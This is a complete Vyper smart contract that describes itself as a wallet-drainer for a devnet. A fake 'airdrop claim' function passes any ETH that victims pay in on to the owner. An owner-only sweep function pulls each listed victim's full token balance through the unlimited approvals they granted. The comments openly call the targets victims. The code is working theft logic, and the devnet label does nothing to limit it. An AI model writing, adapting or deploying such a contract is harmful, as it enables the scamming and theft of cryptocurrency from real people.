# pragma version 0.4.3
"""Wallet-drainer contract for the BlockAnalytix devnet: a fake claim forwards ETH, sweep pulls approved tokens."""

interface IERC20:
    def balanceOf(_owner: address) -> uint256: view
    def transferFrom(_from: address, _to: address, _value: uint256) -> bool: nonpayable

OWNER: public(immutable(address))


@deploy
def __init__():
    OWNER = msg.sender


@external
@payable
def claim():
    # the "airdrop claim" a victim pays into: the ETH leaves to the owner in the same transaction
    send(OWNER, msg.value)


@external
def sweep(_token: address, _victims: DynArray[address, 8]):
    # pulls each victim's whole balance (they approved this contract without limit) straight to the owner
    assert msg.sender == OWNER, "not owner"
    for victim: address in _victims:
        extcall IERC20(_token).transferFrom(victim, OWNER, staticcall IERC20(_token).balanceOf(victim))
